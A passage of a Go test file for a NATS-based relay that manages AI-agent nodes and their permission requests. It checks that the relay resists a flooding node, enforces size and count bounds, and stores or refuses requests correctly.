	}

	var busy, answered atomic.Int64
	inbox := evil.NewInbox()
	sub, err := evil.Subscribe(inbox+".*", func(m *nats.Msg) {
		if err := schemas.DecodeReply(m.Data, &schemas.RelayLastReply{}); err != nil && strings.Contains(err.Error(), "node evil has") {
			busy.Add(1)
		} else {
			answered.Add(1)
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	defer sub.Unsubscribe()
	flood := madeUp(1000)
	for i := range 600 {
		if err := evil.PublishMsg(&nats.Msg{Subject: schemas.RelaySubject("evil", schemas.RelayLast), Reply: fmt.Sprintf("%s.%d", inbox, i), Data: flood}); err != nil {
			t.Fatal(err)
		}
	}
	if err := evil.Flush(); err != nil {
		t.Fatal(err)
	}

	// Meanwhile honest beats (its own entry again, from a connection of
	// its own) and asks of its agent.
	nodes, err := s.F.JetStream().KeyValue(ctx, schemas.NodesBucket)
	if err != nil {
		t.Fatal(err)
	}
	answeredThroughout(t, ctx, s, nodes, ttl, func() string { return "" })
	rec, err := s.F.Status(ctx, "pal")
	if err != nil || rec.Status == schemas.StatusDead {
		t.Fatalf("node honest's agent after node evil's flood: %+v %v", rec, err)
	}
	if busy.Load() == 0 {
		t.Errorf("none of node evil's 600 requests at once was answered busy (%d answered)", answered.Load())
	}
}

// What a confined node stores of its agents is bounded: a permission
// request is at most 1 MiB, an agent has at most 16 waiting, the bucket
// itself has a size, and an agent record written through the relay is at
// most 256 KiB, each refusal saying which bound. An observer's list of
// what waits is answered within the payload limit however large the
// requests are, a long input cut short with a marker, so one agent's
// requests cannot hide another's.
func TestRelayHoldsPermissionRequestsToTheirBounds(t *testing.T) {
	t.Parallel()
	s := fabrictest.StartSecured(t)
	ctx := natstest.Context(t, 120*time.Second)
	agents, js, claim := givenMine(t, s, ctx)
	other := claim
	other.ID = "other"
	b, _ := json.Marshal(other)
	if _, err := agents.Create(ctx, "other", b); err != nil {
		t.Fatal(err)
	}
	request := func(agent, id string, input int) error {
		req, _ := json.Marshal(schemas.PermitRecord{AgentID: agent, RequestID: id, Node: "nb", Tool: "Bash",
			Input: json.RawMessage(`{"command":"` + strings.Repeat("A", input) + `"}`), Options: []schemas.PermissionOption{}, AskedAt: float64(time.Now().UnixNano()) / 1e9, Deadline: float64(time.Now().Add(time.Hour).Unix())})
		_, err := js.Publish(ctx, schemas.RelaySubject("nb", schemas.RelayPermit, agent), req)
		return err
	}
	refused := func(what string, err error, want string) {
		t.Helper()
		var apiErr *jetstream.APIError
		if !errors.As(err, &apiErr) || apiErr.Code != schemas.RelayRefused || !strings.Contains(apiErr.Description, want) {
			t.Errorf("%s: %v, want a refusal saying %q", what, err, want)
		}
	}
	if err := request("other", "first", 100); err != nil {
		t.Fatal(err)
	}
	refused("a request of 2 MiB", request("mine", "huge", 2<<20), "bytes; a permission request is at most 1048576")
	for i := range 16 {
		if err := request("mine", fmt.Sprintf("r%d", i), 900<<10); err != nil {
			t.Fatalf("request %d of agent mine: %v", i, err)
		}
	}
	refused("a 17th request waiting", request("mine", "r16", 10), "agent mine has 16 permission requests waiting")
	st, err := s.F.JetStream().Stream(ctx, "KV_"+schemas.PermitsBucket)
	if err != nil {
		t.Fatal(err)
	}
	if info, err := st.Info(ctx); err != nil || info.Config.MaxBytes != broker.PermitsMaxBytes || info.Config.MaxMsgSize < schemas.MaxPermitBytes {
		t.Errorf("the permits bucket has no bound: %+v %v", info.Config, err)
	}

	observer, err := client.New(s.Connect(t, broker.RoleObserver, "watcher"), client.Config{ViaCoordinator: true, ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	all, err := observer.Pending(ctx)
	pending := all.Requests
	if err != nil {
		t.Fatalf("an observer's list of what waits: %v", err)
	}
	seen := map[string]int{}
	for _, p := range pending {
		seen[p.AgentID]++
		switch {
		case p.AgentID == "other" && string(p.Input) != `{"command":"`+strings.Repeat("A", 100)+`"}`:
			t.Errorf("agent other's short input reads %s", p.Input)
		case p.AgentID == "mine" && (!strings.Contains(string(p.Input), "shoal_truncated") || len(p.Input) > 64<<10):
			t.Errorf("agent mine's input of 900 KiB is listed as %d bytes without a marker", len(p.Input))
		}
	}
	if seen["mine"] != 16 || seen["other"] != 1 {
		t.Errorf("the observer sees %v, want mine's 16 and other's one", seen)
	}

	// An agent record past its bound.
	e, err := agents.Get(ctx, "mine")
	if err != nil {
		t.Fatal(err)
	}
	big := claim
	big.Status = schemas.StatusIdle
	big.Model = strings.Repeat("m", 300<<10)
	m := nats.NewMsg(schemas.RelaySubject("nb", schemas.RelayRecord, "mine"))
	m.Data, _ = json.Marshal(big)
	m.Header.Set(jetstream.ExpectedLastSubjSeqHeader, strconv.FormatUint(e.Revision(), 10))
	_, err = js.PublishMsg(ctx, m)
	refused("a record of 300 KiB", err, "bytes; an agent record is at most 262144")
}

// A confined node's honest burst is slowed by its share of the relay's
// work, never lost: three hundred agents opened on it at once, and a turn
// sent to each at once, each writing its record through the relay, are
// far more operations than the share holds waiting. Those answered busy
// are sent again by the node; every open and turn goes through and every
// record says so.
func TestRelaySlowsAConfinedNodesBurstAndLosesNothing(t *testing.T) {
	t.Parallel()
	s := fabrictest.StartSecured(t)
	s.StartNode(t, "busy")
	ctx := natstest.Context(t, 3*time.Minute)
	const n = 300
	var opening sync.WaitGroup
	errs := make(chan error, 2*n)
	for i := range n {
		opening.Go(func() {
			if _, err := s.F.Open(ctx, schemas.OpenRequest{CWD: t.TempDir(), ID: fmt.Sprintf("a%d", i), Node: "busy"}); err != nil {
				errs <- fmt.Errorf("open a%d: %w", i, err)
			}
		})
	}
	opening.Wait()
	for i := range n {
		opening.Go(func() {
			if _, err := s.F.Run(ctx, schemas.RunRequest{AgentID: fmt.Sprintf("a%d", i), Text: "hello"}); err != nil {
				errs <- fmt.Errorf("run a%d: %w", i, err)
			}
		})
	}
	opening.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
	for i := range n {
		rec, err := s.F.Status(ctx, fmt.Sprintf("a%d", i))
		if err != nil || rec.Status != schemas.StatusIdle || rec.Turn != 1 {
			t.Fatalf("agent a%d after its turn: %+v %v", i, rec, err)
		}
	}
}

// An agent asked under `ask` for a week keeps its answered requests in
// the bucket for the week: counting what waits read each one, and past
// some tens of thousands the count ran out of its time and the new
// request was not stored, so no person saw it. The count reads only what
// it must, and one it cannot finish stores the request all the same.
func TestRelayStoresARequestBesideManyAnswered(t *testing.T) {
	t.Parallel()
	s := fabrictest.StartSecured(t)
	ctx := natstest.Context(t, 3*time.Minute)
	_, js, _ := givenMine(t, s, ctx)
	admin := s.F.JetStream()
	answered := schemas.Decision("deny")
	for i := range 60000 {
		b, _ := json.Marshal(schemas.PermitRecord{AgentID: "mine", RequestID: fmt.Sprintf("old%d", i), Node: "nb", Tool: "Bash",
			Input: json.RawMessage(`{}`), Answer: &schemas.PermitAnswer{Decision: answered, By: "a person"}})
		// Waits as long as it must for room among the publishes in
		// flight (the default, 200 ms, is too short on a loaded machine).
		if _, err := admin.PublishAsync("$KV."+schemas.PermitsBucket+"."+schemas.PermitKey("mine", fmt.Sprintf("old%d", i)), b, jetstream.WithStallWait(time.Minute)); err != nil {
			t.Fatal(err)
		}
	}
	select {
	case <-admin.PublishAsyncComplete():
	case <-ctx.Done():
		t.Fatal(ctx.Err())
	}
	req, _ := json.Marshal(schemas.PermitRecord{AgentID: "mine", RequestID: "new", Node: "nb", Tool: "Bash",
		Input: json.RawMessage(`{}`), Options: []schemas.PermissionOption{}, AskedAt: float64(time.Now().UnixNano()) / 1e9, Deadline: float64(time.Now().Add(time.Hour).Unix())})
	if _, err := js.Publish(ctx, schemas.RelaySubject("nb", schemas.RelayPermit, "mine"), req); err != nil {
		t.Fatalf("a request beside 60,000 answered: %v", err)
	}
	kv, err := admin.KeyValue(ctx, schemas.PermitsBucket)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := kv.Get(ctx, schemas.PermitKey("mine", "new")); err != nil {
		t.Errorf("the new request is not stored: %v", err)
	}
}

// A node answers the permission requests of its agents that are there:
// writing answered requests nobody asked, 512 at a time, it pushed the
// requests waiting out of the latest writes the relay counts, and so
// past the bound of 16 waiting.
func TestRelayTakesAnAnswerOnlyOfARequestThatIsThere(t *testing.T) {
	t.Parallel()
	s := fabrictest.StartSecured(t)
	ctx := natstest.Context(t, 2*time.Minute)
	_, js, _ := givenMine(t, s, ctx)
	put := func(id string, answered bool) error {
		rec := schemas.PermitRecord{AgentID: "mine", RequestID: id, Node: "nb", Tool: "Bash", Input: json.RawMessage(`{}`),
			Options: []schemas.PermissionOption{}, AskedAt: float64(time.Now().UnixNano()) / 1e9, Deadline: float64(time.Now().Add(time.Hour).Unix())}
		if answered {
			rec.Answer = &schemas.PermitAnswer{Decision: schemas.Decision("deny"), By: "deadline"}
		}
		b, _ := json.Marshal(rec)
		_, err := js.Publish(ctx, schemas.RelaySubject("nb", schemas.RelayPermit, "mine"), b)
		return err
	}
	if err := put("asked", false); err != nil {
		t.Fatal(err)
	}
	if err := put("asked", true); err != nil {
		t.Errorf("the node's answer of its agent's request: %v", err)
	}
	var apiErr *jetstream.APIError
	if err := put("never-asked", true); !errors.As(err, &apiErr) || apiErr.Code != schemas.RelayRefused || !strings.Contains(apiErr.Description, "agent mine has no permission request never-asked to answer") {
		t.Errorf("an answer of a request nobody asked: %v, want refused", err)
	}
	for i := range 16 {
		if err := put(fmt.Sprintf("w%d", i), false); err != nil {
			t.Fatalf("request %d: %v", i, err)
		}
	}
	for i := range 600 {
		put(fmt.Sprintf("filler%d", i), true)
	}
	if err := put("w16", false); !errors.As(err, &apiErr) || apiErr.Code != schemas.RelayRefused {
		t.Errorf("a 17th request waiting after 600 answers of requests nobody asked: %v, want refused", err)
	}
}

// answeredThroughout has node honest (its agent pal) beat and ask the
// relay the last event of pal for three of the nodes' TTLs while
// something else goes on, each answered within one TTL (a node's own
// wait for the relay). Whether the node's entry lived on is the caller's
// to see: its agent is not closed as a lost node's. (A bound of a third,
// then two thirds, of the TTL on each answer failed on the CPU the
// server gives a flood of 8 MiB messages on two cores under the race
// detector: a heartbeat answered in 2.3 s, the node alive throughout.)
// why says more of what went wrong, for the failure.
func answeredThroughout(t *testing.T, ctx context.Context, s *fabrictest.Secured, nodes jetstream.KeyValue, ttl time.Duration, why func() string) {
	t.Helper()
	honest := s.Connect(t, broker.RoleNode, "honest")
	within := func(what string, subject string, data []byte) []byte {
		t.Helper()
		began := time.Now()
		m, err := honest.Request(subject, data, ttl)
		if err != nil {
			t.Fatalf("%s during node evil's flood: %v after %s%s", what, err, time.Since(began), why())
		}
		return m.Data
	}
	ask, _ := json.Marshal(schemas.RelayLastRequest{Agents: []string{"pal"}})
	for end := time.Now().Add(3 * ttl); time.Now().Before(end); {
		e, err := nodes.Get(ctx, "honest")
		if err != nil {
			t.Fatalf("node honest's entry during node evil's flood: %v", err)
		}
		if ack := within("a heartbeat of node honest", schemas.RelaySubject("honest", schemas.RelayBeat), e.Value()); strings.Contains(string(ack), `"error"`) {
			t.Fatalf("a heartbeat of node honest: %s", ack)
		}
		var last schemas.RelayLastReply
		if err := schemas.DecodeReply(within("node honest's last", schemas.RelaySubject("honest", schemas.RelayLast), ask), &last); err != nil || last.Last["pal"] == 0 {
			t.Fatalf("node honest's last of its agent: %+v %v", last, err)
		}
		select {
		case <-ctx.Done():
			t.Fatal(ctx.Err())
		case <-time.After(200 * time.Millisecond):
		}
	}
}
